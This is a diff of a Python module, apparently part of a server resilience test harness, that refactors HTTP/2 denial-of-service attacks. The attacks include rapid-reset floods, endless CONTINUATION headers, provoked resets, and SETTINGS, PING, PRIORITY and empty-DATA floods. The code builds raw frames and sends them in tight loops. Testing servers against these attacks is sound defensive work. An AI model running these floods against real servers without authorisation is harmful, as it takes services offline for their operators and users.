@@ -102,50 +102,29 @@ def flood(piece: bytes, *, reads: bool = True, opening: bytes = OPENING) -> Atta
     return attack
 
 
-def _endless_headers(attacker: Attacker) -> None:
-    more = frame(CONTINUATION, 0, 1, header(b"x-a", b"v" * 900))
-    with attacker.connect() as client:
-        client.sendall(_headers(attacker, 1, 0))
-        for _ in range(_MOST_SENDS):
-            client.sendall(more * 100)
-
-
-def _empty_continuations(attacker: Attacker) -> None:
-    with attacker.connect() as client:
-        client.sendall(_headers(attacker, 1, 0))
-        for _ in range(_MOST_SENDS):
-            client.sendall(frame(CONTINUATION, 0, 1, b"") * 5000)
-
-
-def rapid_resets(*, body: bool) -> Attack:
-    """Calls that are reset at once; a closed connection is made anew."""
+def endless_headers(more: bytes) -> Attack:
+    """Headers of which more comes always."""
 
     def attack(attacker: Attacker) -> None:
         with attacker.connect() as client:
-            for first in range(1, 100_000, 200):
-                sent = [
-                    (_call(attacker, s) if body else _headers(attacker, s))
-                    + frame(RESET, 0, s, _CANCEL)
-                    for s in range(first, first + 200, 2)
-                ]
-                client.sendall(b"".join(sent))
-                if attacker.stopped:
-                    return
+            client.sendall(_headers(attacker, 1, 0))
+            for _ in range(_MOST_SENDS):
+                client.sendall(more)
 
     return attack
 
 
-def _provoked_resets(attacker: Attacker) -> None:
-    """The server resets, as the client's frames are wrong in each stream."""
-    with attacker.connect() as client:
-        for first in range(1, 100_000, 200):
-            zero = [
-                _headers(attacker, s) + frame(WINDOW_UPDATE, 0, s, bytes(4))
-                for s in range(first, first + 200, 2)
-            ]
-            client.sendall(b"".join(zero))
-            if attacker.stopped:
-                return
+def many_calls(make: Callable[[Attacker, int], bytes]) -> Attack:
+    """Calls of which each goes wrong at once; a closed connection is made anew."""
+
+    def attack(attacker: Attacker) -> None:
+        with attacker.connect() as client:
+            for first in range(1, 100_000, 200):
+                client.sendall(b"".join(make(attacker, s) for s in range(first, first + 200, 2)))
+                if attacker.stopped:
+                    return
+
+    return attack
 
 
 def never_read(connections: int, *, opening: bytes, rounds: int) -> Attack:
@@ -176,14 +155,6 @@ def _refusals_unread(attacker: Attacker) -> None:
             for s in range(first, first + 2000, 2)
         ]
         client.sendall(b"".join(calls))
-        if attacker.stopped:
-            return
-
-
-def _pings_unread(attacker: Attacker) -> None:
-    client = attacker.connect()
-    for first in range(1, 200_000, 2):
-        client.sendall(frame(PING, 0, 0, b"12345678") * 20 + _call(attacker, first))
         if attacker.stopped:
             return
 
@@ -275,22 +246,27 @@ UNFINISHED: dict[str, Attack] = {
     ),
     "headers byte by byte": slow(20, lambda a: _headers(a, 1, 0)),
     "headers without an end": silent(200, OPENING + frame(HEADERS, 0, 1, block(b"/a/b"))),
-    "headers of which more comes always": _endless_headers,
-    "headers of which nothing comes always": _empty_continuations,
+    "headers of which more comes always": endless_headers(
+        frame(CONTINUATION, 0, 1, header(b"x-a", b"v" * 900)) * 100
+    ),
+    "headers of which nothing comes always": endless_headers(frame(CONTINUATION, 0, 1, b"") * 5000),
     "a preface byte by byte": slow(50, lambda _: PREFACE, b""),
     "silent connections": silent(1200, b""),
     "idle connections": silent(1200, OPENING),
     "streams that are opened and left": _streams,
 }
 FLOODS: dict[str, Attack] = {
-    "rapid resets": rapid_resets(body=False),
-    "rapid resets of whole calls": rapid_resets(body=True),
-    "resets that the server is made to send": _provoked_resets,
+    "rapid resets": many_calls(lambda a, s: _headers(a, s) + frame(RESET, 0, s, _CANCEL)),
+    "rapid resets of whole calls": many_calls(
+        lambda a, s: _call(a, s) + frame(RESET, 0, s, _CANCEL)
+    ),
+    "resets that the server is made to send": many_calls(
+        lambda a, s: _headers(a, s) + frame(WINDOW_UPDATE, 0, s, bytes(4))
+    ),
     "settings": flood(frame(SETTINGS, 0, 0, b"")),
     "settings, unread": flood(frame(SETTINGS, 0, 0, b""), reads=False),
     "pings": flood(frame(PING, 0, 0, b"12345678")),
     "pings, unread": flood(frame(PING, 0, 0, b"12345678"), reads=False),
-    "pings and calls, unread": _pings_unread,
     "priorities": flood(frame(PRIORITY, 0, 1, bytes(4) + b"\1"), reads=False),
     "empty data": flood(
         frame(DATA, 0, 1, b""),
